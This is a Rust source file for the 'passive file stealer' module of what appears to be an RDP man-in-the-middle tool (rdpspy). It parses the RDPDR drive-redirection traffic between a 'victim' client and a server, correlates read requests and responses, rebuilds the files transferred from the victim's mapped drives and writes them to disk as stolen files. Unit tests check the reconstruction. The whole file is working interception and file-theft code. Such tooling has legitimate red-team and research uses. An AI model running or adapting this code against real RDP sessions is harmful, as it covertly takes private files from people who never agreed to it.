//! The passive file stealer.
//!
//! Requests flow from the victim to the server and their responses travel the
//! opposite way, correlated by completion id. The correlation table lives
//! here, owned by the orchestrator, and both directions go through it: the
//! front handler indexes requests, the back handler resolves responses and
//! reconstructs the transferred files. Every message is forwarded unchanged;
//! the reconstruction is a pure side channel and its failures never tear the
//! session down.

use std::collections::HashMap;

use rdpspy_rdpdr::{
    DeviceCreateResponse, DeviceIoRequest, DeviceIoRequestBody, DeviceIoResponse, DeviceReadResponse, RdpdrPdu,
};
use rdpspy_pdu::decode;

use crate::artifact::{ArtifactVault, SparseFileBuffer};

pub struct FileStealer {
    completion_in_progress: HashMap<u32, DeviceIoRequest>,
    opened_files: HashMap<u32, String>,
    partial_files: HashMap<String, SparseFileBuffer>,
}

impl FileStealer {
    pub fn new() -> Self {
        Self {
            completion_in_progress: HashMap::new(),
            opened_files: HashMap::new(),
            partial_files: HashMap::new(),
        }
    }

    pub fn opened_file_count(&self) -> usize {
        self.opened_files.len()
    }

    /// Observes one complete RDPDR message travelling victim-to-server.
    pub fn observe_from_front(&mut self, message: &[u8]) {
        let pdu: RdpdrPdu = match decode(message) {
            Ok(pdu) => pdu,
            Err(e) => {
                debug!(error = %e, "unparsed RDPDR message from the client");
                return;
            }
        };

        match pdu {
            RdpdrPdu::DeviceIoRequest(request) => self.handle_io_request(request),
            RdpdrPdu::ClientDeviceListAnnounce(announce) => {
                for device in &announce.devices {
                    info!(
                        device = device.device_type.description(),
                        id = device.device_id,
                        name = %device.dos_name(),
                        "device mapped through RDPDR"
                    );
                }
            }
            RdpdrPdu::CoreCapability(_) => debug!("received client RDPDR capabilities"),
            _ => {}
        }
    }

    /// Observes one complete RDPDR message travelling server-to-victim.
    pub fn observe_from_back(&mut self, message: &[u8], vault: &ArtifactVault) {
        let pdu: RdpdrPdu = match decode(message) {
            Ok(pdu) => pdu,
            Err(e) => {
                debug!(error = %e, "unparsed RDPDR message from the server");
                return;
            }
        };

        match pdu {
            RdpdrPdu::DeviceIoResponse(response) => self.handle_io_response(response, vault),
            RdpdrPdu::CoreCapability(_) => debug!("received server RDPDR capabilities"),
            _ => {}
        }
    }

    fn handle_io_request(&mut self, request: DeviceIoRequest) {
        match &request.body {
            DeviceIoRequestBody::Create(create) => {
                if create.is_read_access() {
                    debug!(path = %create.path_string(), "create request for read received");
                }
            }
            DeviceIoRequestBody::Read(_) => {
                if let Some(path) = self.opened_files.get(&request.file_id) {
                    debug!(%path, "read request received");
                }
            }
            DeviceIoRequestBody::Close(_) | DeviceIoRequestBody::Write(_) => {}
            DeviceIoRequestBody::Other(_) => {
                debug!(major = request.major_function.description(), "untracked I/O request");
            }
        }

        self.completion_in_progress.insert(request.completion_id, request);
    }

    fn handle_io_response(&mut self, response: DeviceIoResponse, vault: &ArtifactVault) {
        let Some(request) = self.completion_in_progress.remove(&response.completion_id) else {
            error!(
                completion_id = response.completion_id,
                "completion id not in progress; the peer may be sending corrupted data"
            );
            return;
        };

        if response.io_status.is_error() {
            warn!(
                completion_id = response.completion_id,
                status = format_args!("0x{:08X}", response.io_status.0),
                major = request.major_function.description(),
                "I/O response carries an error status"
            );
        }

        match &request.body {
            DeviceIoRequestBody::Create(create) => {
                if create.is_read_access() && !create.is_directory() {
                    match DeviceCreateResponse::from_body(&response.body) {
                        Ok(created) => {
                            let path = create.path_string();
                            debug!(%path, file_id = created.file_id, "file opened for reading");
                            self.opened_files.insert(created.file_id, path);
                        }
                        Err(e) => debug!(error = %e, "unparsed create response"),
                    }
                }
            }
            DeviceIoRequestBody::Read(read) => {
                let Some(path) = self.opened_files.get(&request.file_id) else {
                    return;
                };

                match DeviceReadResponse::from_body(&response.body) {
                    Ok(data) => {
                        let buffer = self.partial_files.entry(path.clone()).or_default();
                        buffer.write_at(read.offset, &data.data);
                    }
                    Err(e) => debug!(error = %e, "unparsed read response"),
                }
            }
            DeviceIoRequestBody::Close(_) => {
                let Some(path) = self.opened_files.remove(&request.file_id) else {
                    return;
                };

                debug!(file_id = request.file_id, %path, "file closed");

                if let Some(buffer) = self.partial_files.remove(&path) {
                    match vault.save(&path, buffer.as_bytes()) {
                        Ok(saved) => info!(path = %saved.display(), "stolen file written to disk"),
                        Err(e) => warn!(%path, error = %e, "failed to write stolen file, dropping it"),
                    }
                }
            }
            DeviceIoRequestBody::Write(_) | DeviceIoRequestBody::Other(_) => {}
        }
    }
}

impl Default for FileStealer {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rdpspy_pdu::encode_vec;
    use rdpspy_pdu::utils::to_utf16_bytes;
    use rdpspy_rdpdr::{
        CreateOptions, DeviceCloseRequest, DeviceCreateRequest, DeviceReadRequest, FileAccess, MajorFunction, NtStatus,
    };
    use std::path::PathBuf;

    fn scratch_vault(name: &str) -> ArtifactVault {
        let dir: PathBuf = std::env::temp_dir()
            .join("rdpspy-tests")
            .join(format!("{}-{}", name, std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        ArtifactVault::new(dir)
    }

    fn utf16_path(path: &str) -> Vec<u8> {
        let mut bytes = to_utf16_bytes(path);
        bytes.extend_from_slice(&[0, 0]);
        bytes
    }

    fn request(completion_id: u32, file_id: u32, body: DeviceIoRequestBody) -> Vec<u8> {
        let major_function = match &body {
            DeviceIoRequestBody::Create(_) => MajorFunction::CREATE,
            DeviceIoRequestBody::Read(_) => MajorFunction::READ,
            DeviceIoRequestBody::Close(_) => MajorFunction::CLOSE,
            _ => MajorFunction::DEVICE_CONTROL,
        };

        encode_vec(&RdpdrPdu::DeviceIoRequest(DeviceIoRequest {
            device_id: 1,
            file_id,
            completion_id,
            major_function,
            minor_function: 0,
            body,
        }))
        .unwrap()
    }

    fn response(completion_id: u32, body: Vec<u8>) -> Vec<u8> {
        encode_vec(&RdpdrPdu::DeviceIoResponse(DeviceIoResponse {
            device_id: 1,
            completion_id,
            io_status: NtStatus::SUCCESS,
            body,
        }))
        .unwrap()
    }

    fn create_body(path: &str) -> DeviceIoRequestBody {
        DeviceIoRequestBody::Create(DeviceCreateRequest {
            desired_access: FileAccess::GENERIC_READ,
            allocation_size: 0,
            file_attributes: 0,
            shared_access: 7,
            create_disposition: 1,
            create_options: CreateOptions::FILE_NON_DIRECTORY_FILE,
            path: utf16_path(path),
        })
    }

    fn read_response_body(data: &[u8]) -> Vec<u8> {
        let mut body = (data.len() as u32).to_le_bytes().to_vec();
        body.extend_from_slice(data);
        body
    }

    #[test]
    fn file_is_reconstructed_regardless_of_read_order() {
        let vault = scratch_vault("reconstruct");
        let mut stealer = FileStealer::new();

        const FILE_ID: u32 = 9;
        let chunk1 = vec![0x41u8; 2048];
        let chunk2 = vec![0x42u8; 2048];
        let chunk3 = vec![0x43u8; 904];

        // Create
        let mut create_response = FILE_ID.to_le_bytes().to_vec();
        create_response.push(0); // information

        stealer.observe_from_front(&request(1, 0, create_body("\\\\tsclient\\C\\foo.txt")));
        stealer.observe_from_back(&response(1, create_response), &vault);
        assert_eq!(stealer.opened_file_count(), 1);

        // Three reads, responses resolved out of order.
        stealer.observe_from_front(&request(
            2,
            FILE_ID,
            DeviceIoRequestBody::Read(DeviceReadRequest { length: 2048, offset: 0 }),
        ));
        stealer.observe_from_front(&request(
            3,
            FILE_ID,
            DeviceIoRequestBody::Read(DeviceReadRequest {
                length: 2048,
                offset: 2048,
            }),
        ));
        stealer.observe_from_front(&request(
            4,
            FILE_ID,
            DeviceIoRequestBody::Read(DeviceReadRequest {
                length: 904,
                offset: 4096,
            }),
        ));

        stealer.observe_from_back(&response(4, read_response_body(&chunk3)), &vault);
        stealer.observe_from_back(&response(2, read_response_body(&chunk1)), &vault);
        stealer.observe_from_back(&response(3, read_response_body(&chunk2)), &vault);

        // Close flushes to disk.
        stealer.observe_from_front(&request(5, FILE_ID, DeviceIoRequestBody::Close(DeviceCloseRequest)));
        stealer.observe_from_back(&response(5, Vec::new()), &vault);

        assert_eq!(stealer.opened_file_count(), 0);

        let saved = vault.root().join("tsclient/C/foo.txt");
        let contents = std::fs::read(saved).unwrap();
        assert_eq!(contents.len(), 5000);
        assert_eq!(&contents[..2048], chunk1.as_slice());
        assert_eq!(&contents[2048..4096], chunk2.as_slice());
        assert_eq!(&contents[4096..], chunk3.as_slice());
    }

    #[test]
    fn write_only_create_is_not_tracked() {
        let vault = scratch_vault("write-only");
        let mut stealer = FileStealer::new();

        let body = DeviceIoRequestBody::Create(DeviceCreateRequest {
            desired_access: FileAccess::GENERIC_WRITE,
            allocation_size: 0,
            file_attributes: 0,
            shared_access: 0,
            create_disposition: 1,
            create_options: CreateOptions::FILE_NON_DIRECTORY_FILE,
            path: utf16_path("\\out.txt"),
        });

        stealer.observe_from_front(&request(1, 0, body));
        stealer.observe_from_back(&response(1, vec![7, 0, 0, 0, 0]), &vault);

        assert_eq!(stealer.opened_file_count(), 0);
    }

    #[test]
    fn unmatched_completion_id_is_contained() {
        let vault = scratch_vault("unmatched");
        let mut stealer = FileStealer::new();

        // No request was ever indexed for this response.
        stealer.observe_from_back(&response(77, vec![1, 0, 0, 0, 0]), &vault);

        assert_eq!(stealer.opened_file_count(), 0);
    }
}
